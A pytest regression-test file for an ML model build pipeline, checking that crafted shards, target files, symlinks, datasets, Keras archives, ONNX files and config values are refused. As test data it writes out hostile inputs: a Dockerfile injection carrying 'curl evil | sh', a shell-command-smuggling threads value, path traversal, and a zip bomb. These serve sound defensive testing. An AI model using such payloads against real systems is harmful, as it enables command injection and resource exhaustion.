"""Issue 35's hostile probe, the cases that need no build: one regression test per defect it found
(numbered as in the issue), each against the real component (the config loader, the data loaders, the
target-file reader, the shard reader, Keras's archive check, matplotlib, onnx and onnxruntime). The cases
that need a build are in tests/test_shards.py (1), tests/test_bad_input.py (12) and tests/test_chain.py
(the temporary-directory check)."""

import errno
import json
import os
import stat
import subprocess
import sys
import threading
import warnings
import zipfile

import numpy as np
import pytest

from conftest import REPO
from pipeline.engine import config as config_mod
from pipeline.engine.errors import InputError, ModelRefused

TARGETS = REPO / "targets"


def _cli(*args, env=None, cwd=REPO):
    return subprocess.run([sys.executable, "-m", "pipeline", *args], cwd=cwd, capture_output=True, text=True,
                          env={**os.environ, **(env or {})}, timeout=300)


def _one_line_exit_3(proc, expected):
    assert proc.returncode == 3, proc.stdout + proc.stderr
    err = proc.stderr.strip()
    assert err.startswith("error: ") and len(err.splitlines()) == 1 and "Traceback" not in err, err
    assert expected in err, err


def _target_file(tmp_path, edit, base="rpi5-litert", name=None):
    """A copy of a shipped target file with one line edited, in a targets dir of its own."""
    d = tmp_path / "targets"
    d.mkdir(exist_ok=True)
    text = (TARGETS / f"{base}.toml").read_text()
    for old, new in edit.items():
        assert old in text, old
        text = text.replace(old, new)
    (d / f"{name or base}.toml").write_text(text)
    return d


# ----------------------------------------------------------------------------- 1: shards


def _shard(tmp_path, meta, **arrays):
    from pipeline.orchestrate import shards
    from pipeline.engine.fsutil import atomic_save_npz

    arrays = arrays or {"ids": np.array(["a", "b"]), "outputs": np.zeros((2, 3), np.int8)}
    if isinstance(meta, dict) and "sha256" not in meta:
        meta = {**meta, "sha256": {k: shards._array_sha256(v) for k, v in arrays.items()}}
    path = tmp_path / "target-x.shard-1-of-2.npz"
    atomic_save_npz(path, meta=np.array(json.dumps(meta)), **arrays)
    return path


RUN = {"shards": 1, "batch": 1, "threads": 1, "wall_seconds": 1.0, "inference_seconds": 0.5, "runtime": "x",
       "runtime_version": "1", "machine": "aarch64", "python": "3.11"}
GOOD_META = {"stage": "target:rpi5-litert", "params": {"target": "rpi5-litert"}, "key": "0" * 64, "shard": [1, 2],
             "record": {"samples": 2}}


@pytest.mark.parametrize("change", [
    {"key": None}, {"shard": ["1", 2]}, {"shard": [3, 2]}, {"record": "x"}, {"stage": 5}, {"params": []},
    {"hmac": "é" * 64},
], ids=["no key", "string index", "i beyond N", "record not a table", "stage not a name", "params not a table",
        "a non-hex signature"])
def test_15_a_crafted_shard_is_refused_in_one_line(tmp_path, change):
    from pipeline.orchestrate import shards

    meta = {k: v for k, v in {**GOOD_META, **change}.items() if v is not None}
    with pytest.raises(InputError, match="must be one edgebuild wrote"):
        shards.read(_shard(tmp_path, meta))
    assert shards.read(_shard(tmp_path, GOOD_META))[0]["shard"] == [1, 2]


@pytest.mark.parametrize("record, arrays", [
    ({"samples": 2}, {"ids": np.array(["a", "b"]), "outputs": np.zeros((2, 3), np.int8)}),
    ({"samples": 2, "run": {}, "executor": {}, "isa": {}, "first_difference": None},
     {"ids": np.array(["a", "b"]), "outputs": np.zeros((2, 3), np.int8)}),
    ({"samples": 3, "run": RUN, "executor": {}, "isa": {}, "first_difference": None},
     {"ids": np.array(["a", "b"]), "outputs": np.zeros((2, 3), np.int8)}),
    ({"samples": 2, "run": RUN, "executor": {}, "isa": {}, "first_difference": None},
     {"ids": np.array([1, 2]), "outputs": np.zeros((2, 3), np.int8)}),
    ({"samples": 2, "run": RUN, "executor": {}, "isa": {}, "first_difference": None},
     {"ids": np.array(["a", "b"]), "outputs": np.zeros((2, 3), np.int8), "twin_outputs": np.zeros((2, 4), np.int8)}),
], ids=["no run record", "an empty run", "samples not the ids", "numeric ids", "a twin of another shape"])
def test_15_a_shard_part_merge_cannot_read_is_refused_in_one_line(record, arrays):
    from pipeline.device import targets
    from pipeline.stages import target as target_stage

    good = ({"samples": 2, "run": RUN, "executor": {}, "isa": {}, "first_difference": None},
            {"ids": np.array(["c", "d"]), "outputs": np.zeros((2, 3), np.int8)})
    rpi5 = targets.load_target("rpi5-litert")
    target_stage._check_parts(rpi5, [good])
    with pytest.raises(InputError, match="must hold what edgebuild's shard runs write"):
        target_stage._check_parts(rpi5, [good, (record, arrays)])


def test_1_a_shard_is_signed_with_the_jobs_secret_and_a_resigned_forgery_is_not(tmp_path, monkeypatch):
    from pipeline.orchestrate import shards

    meta = {**GOOD_META, "sha256": {}}
    monkeypatch.setenv(shards.KEY_ENV, "s3cret")
    signed = {**meta, "hmac": shards._signature(meta, b"s3cret")}
    assert shards._signed([("a", signed, {})]) is True
    forged = {**signed, "record": {"samples": 3}}  # content changed after signing
    with pytest.raises(InputError, match="unsigned or signed with another"):
        shards._signed([("a", forged, {})])
    with pytest.raises(InputError, match="unsigned or signed with another"):
        shards._signed([("a", meta, {})])
    monkeypatch.delenv(shards.KEY_ENV)
    assert shards._signed([("a", meta, {})]) is False  # no secret: trusted as given, and never cached


# ----------------------------------------------------------------------------- 2, 5, 15: target files


@pytest.mark.parametrize("edit, expected", [
    ({'name = "rpi5-litert"': 'name = "x/../../ESC3"'}, "must be its file name"),
    ({'description = "Raspberry Pi 5,': 'description = "Pi 5\\nRUN curl evil | sh\\n#'}, "description in"),
    ({'distribution = "bookworm"': 'distribution = "bookworm AS x\\nRUN id"'}, "distribution in"),
    ({'threads = 1': 'threads = "1; touch /tmp/pwned"'}, "threads in"),
    ({'threads = 1': 'threads = 100000'}, "an integer from 1 to 256"),
    ({'cpu = "cortex-a76"': 'cpu = "cortex-a76 -d in_asm"'}, "cpu in"),
    ({"max_abs_diff = 1\n": "max_abs_diff = 1\nmax_abs_dif = 2\n"}, "[tolerances]"),
    ({"max_abs_diff = 1\n": 'max_abs_diff = "1"\n'}, "must be a finite number"),
    ({'kind = "tflm"': 'kind = ["tflm"]'}, "kind in"),
], ids=["name a path", "description injects a RUN line", "distribution injects", "threads a shell line",
        "threads absurd", "cpu with a qemu flag", "unknown tolerance key", "tolerance a string", "kind a list"])
def test_2_5_15_a_target_file_field_that_could_escape_is_refused(tmp_path, edit, expected):
    from pipeline.device import targets

    base = "cortex-m-tflm" if any("tflm" in k for k in edit) else "rpi5-litert"
    d = _target_file(tmp_path, edit, base)
    with pytest.raises(InputError, match=None) as info:
        targets.load_target(base, targets_dir=d)
    assert expected in str(info.value), info.value


def test_5_the_dockerfile_of_the_shipped_targets_has_only_its_own_lines():
    from pipeline.device import image, targets

    text = image.dockerfile([targets.load_target(n) for n in targets.available_targets()])
    starts = {line.split(" ", 1)[0] for line in text.splitlines() if line}
    assert starts <= {"#", "FROM", "RUN", "COPY", "ENTRYPOINT"}, starts


def test_15_a_target_file_nested_50k_deep_is_exit_3_not_a_recursion_error(tmp_path):
    from pipeline.device import targets

    d = tmp_path / "targets"
    d.mkdir()
    (d / "deep.toml").write_text("x = " + "[" * 50_000 + "]" * 50_000 + "\n")
    with pytest.raises(InputError, match="nested too deeply"):
        targets.load_target("deep", targets_dir=d)


# ----------------------------------------------------------------------------- 3: symlinked class folders


def test_3_a_symlinked_class_folder_is_in_the_fingerprint(tmp_path):
    from PIL import Image

    from pipeline.data.sources import files_under, source_fingerprint

    elsewhere, root = tmp_path / "elsewhere" / "b", tmp_path / "imgs"
    for d in (elsewhere, root / "a"):
        d.mkdir(parents=True)
        for i in range(3):
            Image.new("L", (8, 8), i * 40).save(d / f"{i}.png")
    (root / "b").symlink_to(elsewhere, target_is_directory=True)
    (root / "loop").symlink_to(root, target_is_directory=True)  # a link loop ends
    before = source_fingerprint(str(root))
    assert len([p for p in files_under(root) if "b" in p.parts]) == 3
    (elsewhere / "2.png").unlink()
    assert source_fingerprint(str(root)) != before
    # a class linked to another class's folder, then re-pointed: other images, another fingerprint
    (root / "c").symlink_to(root / "a", target_is_directory=True)
    linked = source_fingerprint(str(root))
    (root / "c").unlink()
    (root / "c").symlink_to(elsewhere, target_is_directory=True)
    assert source_fingerprint(str(root)) != linked


# ----------------------------------------------------------------------------- 4: writes to what is no file


def test_4_a_named_output_follows_a_symlink_and_writes_a_pipe_in_place(tmp_path):
    from pipeline.engine.errors import WriteError
    from pipeline.engine.fsutil import write_output

    real = tmp_path / "real.xml"
    real.write_text("old")
    link = tmp_path / "junit.xml"
    link.symlink_to(real)
    write_output(link, b"<testsuites/>")
    assert link.is_symlink() and real.read_text() == "<testsuites/>"

    fifo = tmp_path / "fifo"
    os.mkfifo(fifo)
    got = []
    reader = threading.Thread(target=lambda: got.append(fifo.read_text()))
    reader.start()
    write_output(fifo, b"<testsuites/>")
    reader.join(10)
    assert got == ["<testsuites/>"] and stat.S_ISFIFO(fifo.stat().st_mode), "the pipe was replaced by a file"
    with pytest.raises(WriteError):
        write_output(tmp_path, b"x")


def test_4_junit_to_dev_stdout_redirected_to_a_file_appends(tmp_path):
    """`edgebuild gate --junit /dev/stdout > log`: the XML joins what was printed, nothing is truncated."""
    log = tmp_path / "log"
    with open(log, "w") as f:
        subprocess.run([sys.executable, "-c", "import sys; from pipeline.engine.fsutil import write_output; "
                        "print('before', flush=True); write_output('/dev/stdout', b'<xml/>\\n'); print('after')"],
                       cwd=REPO, stdout=f, check=True)
    assert log.read_text() == "before\n<xml/>\nafter\n"


def test_4_an_artifact_write_replaces_a_planted_link_and_never_follows_it(tmp_path):
    from pipeline.engine.fsutil import atomic_write_text

    outside = tmp_path / "outside.json"
    outside.write_text("theirs")
    build = tmp_path / "build"
    build.mkdir()
    (build / "manifest.json").symlink_to(outside)
    atomic_write_text(build / "manifest.json", "ours")
    assert outside.read_text() == "theirs" and not (build / "manifest.json").is_symlink()


def test_4_junit_through_a_link_to_stdout_reaches_the_reader(tmp_path):
    """--junit LINK where LINK -> /proc/self/fd/1 (what /dev/stdout is): the XML arrives on the pipe and the
    link stays a link. (A link of the test's own: a failing run never replaces the machine's /dev/stdout.)"""
    link = tmp_path / "gate.xml"
    link.symlink_to("/proc/self/fd/1")
    gate = {"verdict": "pass", "checks": [], "baseline": None}
    proc = subprocess.run([sys.executable, "-c", f"from pipeline import cli; cli._emit_gate_outputs({gate!r}, "
                           f"{str(link)!r})"], cwd=REPO, capture_output=True, text=True,
                          env={k: v for k, v in os.environ.items() if k != "GITHUB_STEP_SUMMARY"})
    assert proc.returncode == 0, proc.stderr
    assert "<testsuite" in proc.stdout and link.is_symlink(), proc.stdout


# ----------------------------------------------------------------------------- 6, 10, 13, 15, 16: .npz data


def _npz(tmp_path, name="d.npz", **arrays):
    rng = np.random.RandomState(0)
    arrays.setdefault("x", rng.randint(0, 255, (40, 8, 8), dtype=np.uint8))
    arrays.setdefault("y", np.arange(40) % 2)
    np.savez(tmp_path / name, **arrays)
    return tmp_path / name


@pytest.mark.parametrize("arrays, expected", [
    ({"class_names": np.array(["a", "a", "b"]), "y": np.arange(40) % 3}, "must be distinct"),
    ({"y": np.where(np.arange(40) == 5, 10**9, np.arange(40) % 2)}, "must be class ids 0..99999"),
    ({"y": np.zeros(40, np.int64)}, "at least 2 classes"),
    ({"y": np.zeros(40, np.int64), "class_names": np.array(["a", "b"])}, "at least 2 classes"),
    ({"y": np.where(np.arange(40) == 5, 1e300, np.arange(40) % 2)}, "[0, 1e+300]"),
    ({"class_names": np.array([["a", "b"], ["c", "d"]])}, "must be a 1-D array"),
], ids=["duplicate class names", "a label of 10^9", "one class", "one class of two named", "y = 1e300",
        "2-D class_names"])
def test_6_10_13_16_npz_labels_are_refused_up_front(tmp_path, arrays, expected):
    from pipeline.data.sources import load_source

    config = config_mod.load(None, ["data.image_size=8"])
    with pytest.raises(InputError) as info:
        load_source(str(_npz(tmp_path, **arrays)), config.data)
    assert expected in str(info.value), info.value


def test_15_an_npy_renamed_npz_is_exit_3(tmp_path):
    from pipeline.data.sources import load_source

    np.save(tmp_path / "d.npy", np.zeros((4, 8, 8), np.uint8))
    (tmp_path / "d.npy").rename(tmp_path / "d.npz")
    with pytest.raises(InputError, match="an .npy file renamed"):
        load_source(str(tmp_path / "d.npz"), config_mod.load(None, []).data)


# ----------------------------------------------------------------------------- 7: class names in plots


def test_7_class_names_with_mathtext_are_drawn_as_written():
    from pipeline.release import report

    names = ["$\\notacommand{x}$", "a_b^c$", "$$", "plain"]
    cm = np.eye(4, dtype=np.int64) * 3
    png = report._png(report._confusion_figure({"int8": cm}, names))
    assert len(png) > 1000


# ----------------------------------------------------------------------------- 8, 16: .keras files


def test_8_a_keras_zip_bomb_is_refused_before_it_is_expanded(tmp_path):
    from pipeline.model.usermodel import check_keras_archive, load_keras_file

    bomb = tmp_path / "bomb.keras"
    with zipfile.ZipFile(bomb, "w", zipfile.ZIP_DEFLATED) as z:
        with z.open("config.json", "w") as f:
            block = b" " * (1 << 20)
            for _ in range(100):
                f.write(block)
        z.writestr("metadata.json", "{}")
    assert bomb.stat().st_size < 1_000_000
    with pytest.raises(InputError, match="would expand config.json to 104,857,600 bytes"):
        check_keras_archive(bomb)
    # in a fresh process, so its peak memory is the check's own: far below the 100 MiB the bomb expands to
    code = ("import resource, sys; from pipeline.model.usermodel import check_keras_archive\n"
            "before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss\n"
            "try:\n    check_keras_archive(sys.argv[1])\nexcept Exception:\n    pass\n"
            "print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)")
    grew_kb = int(subprocess.run([sys.executable, "-c", code, str(bomb)], cwd=REPO, capture_output=True, text=True,
                                 check=True).stdout)
    assert grew_kb < 20_000, f"the peak memory grew {grew_kb} KB: the bomb was expanded"
    with pytest.raises(InputError, match="would expand config.json"):
        load_keras_file(bomb)  # what check-model and the train stage call


def test_16_a_random_keras_file_is_named_as_not_a_keras_archive(tmp_path):
    from pipeline.model.usermodel import load_keras_file

    junk = tmp_path / "model.keras"
    junk.write_bytes(os.urandom(4096))
    with pytest.raises(InputError, match="is not a zip"):
        load_keras_file(junk)


# ----------------------------------------------------------------------------- 9, 14, 15: config values


@pytest.mark.parametrize("override, expected", [
    ("train.learning_rate=nan", "must be a finite number"),
    ("data.val_fraction=nan", "must be a finite number"),
    ("gate.max_int8_drop=nan", "must be a finite number"),
    ("gate.flip_error_ratio=inf", "must be a finite number"),
    ("gate.max_inference_ms=-inf", "must be a finite number"),
    ("train.epochs=100000000000000000000000", "between 0 and 10000"),
    ("train.learning_rate=1e23", "between 0.0 and 10.0"),
    ("build.seed=-1", "between 0 and 4294967295"),
    ("build.seed=4294967296", "between 0 and 4294967295"),
    ("train.epochs=" + "[" * 50_000 + "]" * 50_000, "nested too deeply"),
    ("preprocess.mean=[nan]", "list of finite numbers"),
    ("preprocess.std=[inf]", "list of finite numbers"),
    ("preprocess.pixel_range=[0, 1e300]", "list of finite numbers"),
], ids=["lr nan", "val_fraction nan", "max_int8_drop nan", "flip_error_ratio inf", "-inf", "epochs 1e23",
        "lr 1e23", "seed -1", "seed 2**32", "nested 50k deep", "mean nan", "std inf", "pixel range 1e300"])
def test_9_14_15_every_number_is_finite_and_in_range(override, expected):
    with pytest.raises(InputError) as info:
        config_mod.load(None, [override])
    assert expected in str(info.value), info.value


def test_14_15_seed_and_a_deep_config_file_on_the_command_line(tmp_path):
    _one_line_exit_3(_cli("build", "--seed", "-1", "--set", "validate.targets=[]"), "between 0 and 4294967295")
    deep = tmp_path / "deep.toml"
    deep.write_text("[train]\nepochs = " + "[" * 50_000 + "]" * 50_000 + "\n")
    _one_line_exit_3(_cli("build", "--config", str(deep)), "nested too deeply")


# ----------------------------------------------------------------------------- 11: ONNX external data


def _external_onnx(d, location="weights.bin"):
    import onnx
    from onnx import TensorProto, helper, numpy_helper

    w = numpy_helper.from_array(np.arange(12, dtype=np.float32).reshape(4, 3) / 10, "w")
    graph = helper.make_graph([helper.make_node("MatMul", ["x", "w"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, [1, 4])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, [1, 3])], [w])
    model = helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)])
    d.mkdir(parents=True, exist_ok=True)
    onnx.save(model, str(d / "m.onnx"), save_as_external_data=True, all_tensors_to_one_file=True,
              location=location, size_threshold=0)
    return d / "m.onnx"


def test_11_an_onnx_with_external_data_is_copied_whole(tmp_path):
    import onnxruntime as ort

    from pipeline.device import onnx_info
    from pipeline.stages import model_file

    source = _external_onnx(tmp_path / "user")
    assert list(onnx_info.external_data(source)) == ["weights.bin"]
    out = tmp_path / "build"
    out.mkdir()

    class Ctx:
        params = {"copy": "model.onnx"}

    record = model_file.run(config_mod.load(None, [f"validate.model={json.dumps(str(source))}"]), {}, out, Ctx())
    assert list(record["external_data"]) == ["weights.bin"]
    (tmp_path / "user" / "weights.bin").rename(tmp_path / "user" / "moved.bin")  # the copy needs nothing beside it
    x = np.ones((1, 4), np.float32)
    got = ort.InferenceSession(str(out / "model.onnx"), providers=["CPUExecutionProvider"]).run(None, {"x": x})[0]
    np.testing.assert_allclose(got, x @ (np.arange(12, dtype=np.float32).reshape(4, 3) / 10), rtol=1e-6)


def test_11_external_data_outside_the_model_folder_is_refused(tmp_path):
    from pipeline.device import onnx_info

    source = _external_onnx(tmp_path / "user")
    import onnx

    model = onnx.load(str(source), load_external_data=False)
    for entry in model.graph.initializer[0].external_data:
        if entry.key == "location":
            entry.value = "../secret.bin"
    onnx.save(model, str(source))
    with pytest.raises(InputError, match="relative path inside its folder"):
        onnx_info.external_data(source)


# ----------------------------------------------------------------------------- 15: errors that were exit 4


def test_15_a_read_only_or_refused_write_is_exit_3_naming_the_file(tmp_path):
    from pipeline.engine.errors import unwritable
    from pipeline.engine.fsutil import atomic_write_text

    exc = unwritable(OSError(errno.EROFS, "Read-only file system", "/b/manifest.json"))
    assert isinstance(exc, InputError) and "/b/manifest.json" in str(exc)
    assert unwritable(OSError(errno.ENOENT, "No such file")) is None
    assert unwritable(PermissionError(errno.EACCES, "Permission denied", "/data/a/1.png")) is None  # a read
    (tmp_path / "blocker").write_text("a file where a directory should be")
    with pytest.raises(OSError) as info:
        atomic_write_text(tmp_path / "blocker" / "gate.xml", "x")
    assert info.value.filename == str(tmp_path / "blocker" / "gate.xml")  # the file meant, not a temporary
    assert isinstance(unwritable(info.value), InputError)
    from pipeline.engine.fsutil import atomic_copy

    with pytest.raises(FileNotFoundError) as missing:  # a missing source is named as itself, not as the target
        atomic_copy(tmp_path / "nope", tmp_path / "dst")
    assert missing.value.filename == str(tmp_path / "nope")


def test_15_a_step_summary_in_a_missing_directory_is_a_warning(tmp_path):
    env = {"GITHUB_STEP_SUMMARY": str(tmp_path / "missing" / "summary.md")}
    gate = {"verdict": "pass", "checks": [], "baseline": None}
    proc = subprocess.run([sys.executable, "-c", f"from pipeline import cli; cli._emit_gate_outputs({gate!r}, None)"],
                          cwd=REPO, capture_output=True, text=True, env={**os.environ, **env})
    assert proc.returncode == 0 and "warning: could not append the gate" in proc.stderr, proc.stderr


# ----------------------------------------------------------------------------- 16: a dynamic ONNX input


def test_16_a_dynamic_onnx_input_is_named_as_dynamic(tmp_path):
    import onnx
    from onnx import TensorProto, helper

    graph = helper.make_graph([helper.make_node("GlobalAveragePool", ["x"], ["p"]),
                               helper.make_node("Flatten", ["p"], ["y"])], "g",
                              [helper.make_tensor_value_info("x", TensorProto.FLOAT, ["n", 3, "h", "w"])],
                              [helper.make_tensor_value_info("y", TensorProto.FLOAT, ["n", 3])])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(tmp_path / "dyn.onnx"))
    proc = _cli("validate", str(tmp_path / "dyn.onnx"), "--data", "digits", "--out", str(tmp_path / "out"))
    _one_line_exit_3(proc, "fixed input size")
    assert "image_size" not in proc.stderr


# ----------------------------------------------------------------------------- 16, 17: NaN outputs


def test_16_17_nan_outputs_are_counted_without_a_warning_and_fail_the_gate():
    from pipeline.release import gate
    from pipeline.release.metrics import compare

    host = np.array([[0.1, 0.9], [0.8, 0.2], [0.3, 0.7]], np.float32)
    target = host.copy()
    target[1, 0] = np.nan
    target[2, 1] = np.inf
    with warnings.catch_warnings():
        warnings.simplefilter("error")
        rec = compare(target, host, np.array([1, 0, 1]), np.array(["a", "b", "c"]), ["n", "y"])
    assert rec["nonfinite_outputs"] == 2 and np.isfinite(rec["max_abs_diff"])
    json.dumps(rec, allow_nan=False)  # the manifest holds no NaN
    (check,) = gate._finite_check("rpi5-onnxruntime", rec)
    assert not check["passed"] and check["got"] == 2 and "2 output values are NaN or inf" in check["detail"]
    (ok,) = gate._finite_check("host", {**rec, "nonfinite_outputs": 0})
    assert ok["passed"]
    assert gate._finite_check("host", {"output_dtype": "int8"}) == []  # integer outputs hold no NaN


# ----------------------------------------------------------------------------- 18: a validator that crashes


def test_18_a_crashed_validator_is_that_targets_failure_naming_the_signal():
    from pipeline.device import fanout, targets

    target = targets.load_target("rpi4-bookworm-tflite")
    qemu = "qemu: uncaught target signal 11 (Segmentation fault) - core dumped\n"
    with pytest.raises(ModelRefused) as info:
        fanout._failed(target, -11, "", qemu, twin=False)
    assert "crashed (SIGSEGV, Segmentation fault) running the model" in info.value.reason and info.value.crashed
    with pytest.raises(ModelRefused, match="x86_64 twin"):
        fanout._failed(target, -6, "", "free(): invalid pointer\n", twin=True)
    from pipeline.engine.errors import StageError

    with pytest.raises(StageError):  # an ordinary non-zero exit is still the validator's own failure
        fanout._failed(target, 1, "", "ImportError: no module\n", twin=False)
    for stopped in (-9, -15, -2):  # killed from outside (out of memory, a cancelled job): never the model's crash
        with pytest.raises(StageError, match=f"killed by signal {-stopped}"):
            fanout._failed(target, stopped, "", "", twin=False)


def test_18_a_real_segfault_is_named_as_a_crash():
    """A real process that dies of SIGSEGV (a read of address 0): its exit is named as a crash."""
    from pipeline.device import fanout

    proc = subprocess.run([sys.executable, "-c", "import ctypes; ctypes.string_at(0)"], capture_output=True, text=True)
    assert proc.returncode == -11
    assert "SIGSEGV" in fanout.crashed(proc.returncode, proc.stderr)
